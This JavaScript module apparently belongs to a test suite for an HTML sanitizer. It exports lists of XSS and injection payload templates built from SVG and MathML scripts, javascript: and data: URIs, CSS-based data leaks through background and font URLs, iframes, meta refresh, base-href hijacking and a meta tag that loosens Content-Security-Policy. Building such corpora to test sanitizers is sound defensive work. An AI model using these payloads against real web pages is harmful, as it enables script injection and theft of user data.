// Other languages and documents inside HTML.

/** @typedef {import('./attacks.mjs').Lure} Lure */

/** @param {Lure} lure */
export const vectors = ({ run, url }) => [
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><script href="${url}"/></svg>`,
  `<svg><script xlink:href="data:text/javascript,${run}"/></svg>`,
  `<svg><a xlink:href="javascript:${run}"><text x=9 y=9>x</text></a></svg>`,
  `<svg><use href="${url}#x"/></svg>`,
  `<svg><image href="${url}"/></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s></svg>`,
  `<svg><set attributeName=onmouseover to=${run}></svg>`,
  `<svg><foreignObject><iframe src="javascript:${run}"></foreignObject></svg>`,
  `<svg><style>@import "${url}"</style></svg>`,
  `<svg><desc><![CDATA[</desc><script>${run}</script>]]></svg>`,
  `<math><mtext></mtext><mglyph><style><img src=x onerror=${run}>`,
  `<math href="javascript:${run}">x</math>`,
  `<math><maction actiontype="statusline#${url}" xlink:href="javascript:${run}">x</maction></math>`,
  `<math><annotation-xml encoding="text/html"><script>${run}</script></annotation-xml></math>`,
  `<math><mi xlink:href="data:text/html,<script>${run}</script>">x</mi></math>`,
];

/** @param {Lure} lure */
export const styles = ({ run, url }) => [
  `<style>body{display:none}</style>`,
  `<style>@import '${url}';</style>`,
  `<style>@font-face{font-family:x;src:url(${url})}*{font-family:x}</style>`,
  `<style>*{background:url(${url})!important}</style>`,
  `<style>input[value^=a]{background:url(${url})}</style>`,
  `<link rel=stylesheet href=${url}>`,
  `<link rel=preload as=script href=${url}>`,
  `<link rel=prefetch href=${url}><link rel=dns-prefetch href=//canary.invalid>`,
  `<div style="position:fixed;inset:0;background:url(${url})">x</div>`,
  `<div style="width:expression(${run})">`,
  `<div style="-moz-binding:url(${url}#x)">`,
  `<div style=behavior:url(${url})>`,
  `@import url(${url});`,
  `}</style><script>${run}</script>`,
  `/* */ * { display: none } /*`,
];

/** @param {Lure} lure */
export const documents = ({ run, url }) => [
  `<iframe src=${url}></iframe>`,
  `<iframe srcdoc="<script>parent.${run}</script>">`,
  `<iframe src="javascript:parent.${run}">`,
  `<frameset><frame src=${url}></frameset>`,
  `<object data=${url}></object>`,
  `<object data="data:text/html,<script>${run}</script>">`,
  `<embed src=${url}>`,
  `<applet code=${url}>`,
  `<portal src=${url}>`,
  `<fencedframe src=${url}>`,
  `<meta http-equiv=refresh content="0;url=${url}">`,
  `<meta http-equiv="Content-Security-Policy" content="default-src *">`,
  `<base href=${url}>`,
  `<form action=${url}><button>x</button></form>`,
  `<form id=x></form><button form=x formaction="javascript:${run}">x</button>`,
  `<template><script>${run}</script></template>`,
  `<template shadowrootmode=open><script>${run}</script><slot></slot></template>`,
  `<x-attack onfocus=${run} tabindex=1 autofocus>x</x-attack>`,
  `<p is=x-attack onload=${run}>x</p>`,
  `<slot name=x onslotchange=${run}></slot>`,
  `<html manifest=${url}>`,
  `<script type=importmap>{"imports":{"x":"${url}"}}</script>`,
  `<script type=speculationrules>{"prefetch":[{"urls":["${url}"]}]}</script>`,
  `<track src=${url}><source src=${url}><param name=movie value=${url}>`,
];
